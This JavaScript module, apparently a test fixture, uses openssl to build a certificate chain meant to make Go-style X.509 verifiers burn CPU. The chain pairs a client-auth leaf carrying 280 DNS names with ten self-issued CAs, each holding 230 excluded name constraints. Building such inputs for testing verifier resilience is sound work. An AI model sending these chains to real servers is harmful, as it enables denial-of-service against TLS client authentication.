// The name-constraint attack chain: an EC leaf with 280 DNS SANs plus 10 self-issued CAs that share
// one P-256 key and one name, each with 230 excluded DNS name constraints. Every certificate is
// under 3 KiB and every signature is a cheap P-256 one, but a Go-rules verifier tries path after
// path through the CAs (up to Go's limit of signature checks) and compares every SAN with every
// constraint on each. Nothing here is trusted by any server; the certificates are made per run
// with openssl in `dir` (well under a second).
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { selfIssuedChain } from './self-issued-chain.mjs';

export function constraintChain(dir, { count = 10, sans = 280, excluded = 230 } = {}) {
  const p = (f) => join(dir, `nc-attack-${f}`);
  // Names that never match a constraint, so every comparison is made and none ends the check early.
  const constraints = Array.from({ length: excluded }, (_, i) => `excluded;DNS:e${i}.x`).join(',');
  writeFileSync(
    p('ca.cnf'),
    ['[req]', 'distinguished_name=dn', '[dn]', '[ca]', 'basicConstraints=critical,CA:TRUE', 'keyUsage=critical,keyCertSign', `nameConstraints=critical,${constraints}`, ''].join('\n'),
  );
  execFileSync('openssl', ['genpkey', '-algorithm', 'EC', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-out', p('ca.key')], { cwd: dir, stdio: ['ignore', 'ignore', 'pipe'] });
  return selfIssuedChain(dir, {
    prefix: 'nc-attack',
    caKeyFile: p('ca.key'),
    caSubject: '/CN=nc-attack-ca',
    count,
    caArgs: ['-config', p('ca.cnf'), '-extensions', 'ca'],
    leafSubject: '/CN=nc-attacker',
    leafExt: `extendedKeyUsage=clientAuth\nsubjectAltName=${Array.from({ length: sans }, (_, i) => `DNS:s${i}.y`).join(',')}\n`,
    leafArgs: ['-config', p('ca.cnf')],
  });
}
